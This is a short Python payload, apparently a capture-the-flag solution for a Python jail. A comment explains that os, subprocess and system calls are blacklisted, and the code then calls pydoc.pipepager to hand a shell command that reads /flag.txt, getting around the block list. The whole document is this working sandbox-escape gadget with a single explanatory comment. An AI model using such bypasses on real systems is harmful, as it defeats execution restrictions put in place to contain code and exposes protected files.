# restriction: os/subprocess/system blacklisted; idea: pydoc.pipepager hands its cmd argument to a shell
__import__('pydoc').pipepager('','cat /flag.txt >&2')
